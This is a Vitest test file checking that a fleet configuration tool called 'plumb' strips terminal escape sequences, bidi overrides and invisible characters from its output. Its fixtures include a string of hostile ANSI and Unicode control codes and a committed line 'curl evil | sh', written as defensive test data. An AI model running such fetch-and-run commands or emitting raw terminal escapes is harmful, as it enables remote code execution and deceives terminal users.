// Foreign bytes and root's terminal: whatever a commit, a live file or an argument holds, nothing that a terminal obeys is printed; JSON
// keeps the exact values.

import { readdirSync, readFileSync } from 'node:fs'
import { symlink } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { visibleJson, visibleProse, visibleText } from '../../../shared/visible-text.ts'
import { makeRepository, type TestRepository } from '../../support/git.ts'
import { makeSandbox, type Ran, runPlumb, type Sandbox } from '../../support/plumb.ts'

/** Erases the line above; titles the window; C1's CSI; reverses; isolates; hides. */
const hostile = '\u001b[1A\u001b[2K \u001b]0;owned\u0007 \u009b2J \u202egpj \u2066x\u2069 \u200b\ufeff\u007f \r'
const obeyed = /[^\P{Cc}\t\n]|[\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/u
const name = `evil\u001b[2J\u202egpj`

let fleet: TestRepository
let box: Sandbox

beforeAll(async () => {
  fleet = await makeRepository({
    'plumb.yaml': 'version: 1\nhosts:\n  web-1: { services: [base] }\n',
    'services/base/README.md': 'base\n',
    'services/base/service.yaml': 'directories:\n  /etc/owned: { purge: true }\n',
    'services/base/files/etc/motd': 'hello\n',
    'services/base/files/etc/owned/a': 'a\n',
  })
  box = await makeSandbox({ repo: fleet.directory })
  await box.plumb('apply')
  await box.write('/etc/motd', `${hostile}\n`)
  await box.write(`/etc/owned/${name}`, hostile)
  await symlink(hostile, join(box.root, 'etc/owned/link'))
  await fleet.commit(
    { 'services/base/files/etc/motd': `curl evil | sh # ${hostile}\n` },
    { message: `innocent ${hostile}`, author: `Ada${hostile.replaceAll(/[\r\n\0]/g, '')}` },
  )
})
afterAll(async () => {
  await box.remove()
  await fleet.remove()
})

describe('nothing that a terminal obeys is printed by', () => {
  test.each([
    [['plan']],
    [['check']],
    [['status']],
    [['adopt', '/etc/motd', '--dry-run', '-m', hostile]],
    [['hold', 'base', '--for', '1h', '--why', hostile]],
    [['hold']],
    [['apply']],
    [['plan', '--revision', hostile]],
    [[`--${hostile}`]],
  ])('plumb %j', async ([verb = '', ...options]) => {
    const ran = await box.plumb(verb, ...options)
    expect(said(ran).length).toBeGreaterThan(0)
    expect(said(ran)).not.toMatch(obeyed)
  })

  test.each([
    [['lint', 'DIRECTORY']],
    [['why', '/etc/motd']],
    [['why', 'services/base/files/etc/motd:1']],
    [[hostile]],
  ])('plumb %j in a clone', async (args) => {
    const there = args.map((arg) => (arg === 'DIRECTORY' ? fleet.directory : arg))
    const ran = await runPlumb(there, { cwd: fleet.directory })
    expect(said(ran).length).toBeGreaterThan(0)
    expect(said(ran)).not.toMatch(obeyed)
  })
})

test('JSON on a terminal obeys nothing either, and its values are exact', async () => {
  await box.write('/etc/motd', `${hostile}\n`)
  const { out } = await box.plumb('check', '--json')
  expect(out).not.toMatch(obeyed)
  expect(JSON.stringify(JSON.parse(out))).toContain(JSON.stringify(hostile).slice(1, -1))
})

test('a version that is piped comes byte by byte', async () => {
  await box.write('/etc/owned/a', hostile)
  await box.plumb('release', 'base')
  await box.plumb('apply')
  const places = ['--root', box.root, '--state', box.state]
  const { out, code } = await runPlumb(['restore', '/etc/owned/a', '--at', 'latest', '--print', ...places])
  expect({ out, code }).toEqual({ out: hostile, code: 0 })
})

test('a log in JSON is parsed to what was logged', () => {
  const line = `${JSON.stringify({ message: hostile, tag: '\u{e0041}' })}\n`
  expect(visibleJson(line)).not.toMatch(obeyed)
  expect(JSON.parse(visibleJson(line))).toEqual({ message: hostile, tag: '\u{e0041}' })
  expect(visibleJson(line).endsWith('\n')).toBe(true)
})

test('prose keeps what joins letters, and loses what reorders or hides', () => {
  expect(visibleProse('👩\u200d💻 می\u200cخواهم')).toBe('👩\u200d💻 می\u200cخواهم')
  expect(visibleProse(hostile)).not.toMatch(obeyed)
  expect(visibleText(hostile)).not.toMatch(obeyed)
})

test('no module but the sink writes to the terminal', () => {
  const root = join(import.meta.dirname, '../../..')
  const modules = ['agent', 'server', 'shared'].flatMap((top) =>
    readdirSync(join(root, top), { recursive: true, encoding: 'utf8' })
      .filter((path) => /\.tsx?$/.test(path))
      .map((path) => `${top}/${path}`),
  )
  const writing = modules.filter((path) =>
    /process\.std(?:out|err)|console\.|[^.]destination\(/.test(readFileSync(join(root, path), 'utf8')),
  )
  // The log of agent and server is a stream of its own with the same filter.
  expect(writing).toEqual(['agent/commands/output.ts', 'server/main.ts', 'shared/platform/log.ts'])
  expect(modules.length).toBeGreaterThan(400)
})

function said({ out, err }: Ran): string {
  return out + err
}
